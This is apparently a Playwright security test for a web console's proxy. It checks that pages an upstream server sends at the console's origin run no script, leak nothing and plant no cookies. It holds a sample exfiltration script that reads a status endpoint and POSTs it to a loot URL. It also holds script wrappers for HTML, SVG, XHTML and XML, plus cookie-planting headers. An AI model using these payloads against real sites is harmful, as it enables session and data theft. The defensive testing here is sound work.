// Journey: the operator is logged in and opens what an upstream sends, at the console's own origin. It runs nothing, reads nothing
// of the console, opens no socket to it, and leaves nothing behind. Source: proxy, Hostile input.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from '@playwright/test';
import { expect, test } from '../support/console-page.ts';
import { type RunningFestinger, startFestinger } from '../support/festinger.ts';

/** What a thief would run: marks the document, and sends what it can read to its own server. */
const thief = (loot: string) => `
  document.documentElement.setAttribute('data-ran', 'yes');
  fetch('/api/console/system/status').then((r) => r.text()).then((text) => fetch('${loot}', { method: 'POST', body: text }));
  const socket = new WebSocket('ws://' + location.host + '/rpc');
  socket.onopen = () => fetch('${loot}', { method: 'POST', body: 'socket' });`;

/** By path: the type, and the document around the script. */
const PAGES: Readonly<Record<string, readonly [type: string | null, document: (script: string) => string]>> =
  {
    '/page': ['text/html', (script) => `<!doctype html><title>Upstream</title><script>${script}</script>`],
    '/typeless': [null, (script) => `<!doctype html><script>${script}</script>`],
    '/guessed': ['text/plain', (script) => `<!doctype html><html><script>${script}</script>`],
    '/xhtml': [
      'application/xhtml+xml',
      (script) => `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${script}]]></script></html>`,
    ],
    '/svg': [
      'image/svg+xml',
      (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
    ],
    '/xml': [
      'text/xml',
      (script) => `<r><s:script xmlns:s="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></s:script></r>`,
    ],
    '/missing': ['text/html', (script) => `<!doctype html><title>404</title><script>${script}</script>`],
  };

test.setTimeout(15_000);
// One server is enough for all.
test.describe.configure({ mode: 'default' });

const looted: string[] = [];
let upstream: Server;
let origin = '';
let festinger: RunningFestinger;

function bodyOf(req: IncomingMessage): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    req.on('data', (chunk: Buffer) => {
      text += chunk.toString();
    });
    req.on('end', () => resolve(text));
  });
}

test.beforeAll(async () => {
  upstream = createServer(async (req, res) => {
    const path = req.url ?? '';
    if (path === '/loot') looted.push(await bodyOf(req));
    const [type, document] = PAGES[path] ?? ['text/javascript', (script: string) => script];
    if (type !== null) res.setHeader('content-type', type);
    res.setHeader('access-control-allow-origin', '*');
    res.setHeader('set-cookie', ['festinger_session=1.planted; Path=/', 'bait=1; Path=/']);
    res.setHeader('service-worker-allowed', '/');
    res.setHeader('clear-site-data', '"cookies", "storage"');
    res.writeHead(path === '/missing' ? 404 : 200).end(document(thief(`${origin}/loot`)));
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => upstream.once('listening', resolve));
  origin = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  festinger = await startFestinger(['--upstream', origin]);
});
test.afterAll(async () => {
  await festinger.stop();
  upstream.closeAllConnections();
  upstream.close();
});

/** A window of the operator's, logged in. */
async function loggedIn(browser: Browser): Promise<Page> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(await festinger.link());
  await page.getByRole('navigation', { name: 'Screens' }).waitFor();
  return page;
}

const ranIn = (page: Page) => page.locator(':root').getAttribute('data-ran');

/** Where nothing is said to be blocked: nothing is guessed at, so there is no script. */
const SHOWN_AS_TEXT = new Set(['/guessed', '/typeless']);
/** What Chromium says of a script in a sandbox. */
const BLOCKED = /Blocked script execution/;

for (const path of Object.keys(PAGES)) {
  test(`what the upstream sends at ${path} runs nothing and leaves nothing behind`, async ({
    browserOfOurs,
  }) => {
    const page = await loggedIn(browserOfOurs);
    looted.length = 0;
    const blocked = SHOWN_AS_TEXT.has(path)
      ? null
      : page.waitForEvent('console', (said) => BLOCKED.test(said.text()));
    await page.goto(festinger.baseUrl + path, { waitUntil: 'load' });
    await blocked;
    const cookies = await page.context().cookies();
    expect(cookies.map(({ name, value }) => `${name}=${value.slice(0, 9)}`)).toEqual([
      expect.stringMatching(/^festinger_session=\d{9}$/),
    ]);
    await page.goto(`${festinger.baseUrl}/console/`);
    await page.getByRole('navigation', { name: 'Screens' }).waitFor();
    expect(looted).toEqual([]);
    await page.context().close();
  });
}

test('at its own origin the same page does run: the ones above were stopped by us', async ({
  browserOfOurs,
}) => {
  const page = await loggedIn(browserOfOurs);
  await page.goto(`${origin}/page`);
  expect(await ranIn(page)).toBe('yes');
  await page.context().close();
});

test('the console itself gets no script, worker or frame from an upstream', async ({ browserOfOurs }) => {
  const page = await loggedIn(browserOfOurs);
  looted.length = 0;
  const got = await page.evaluate<unknown>(`(async () => {
    const worked = () => 'ran';
    const failed = () => 'refused';
    const { serviceWorker } = navigator;
    return [
      await import('/static/app.js').then(worked, failed),
      await serviceWorker.register('/static/worker.js', { scope: '/' }).then(worked, failed),
      (await serviceWorker.getRegistrations()).length,
    ];
  })()`);
  expect(got).toEqual(['refused', 'refused', 0]);
  expect(looted).toEqual([]);
  await page.context().close();
});
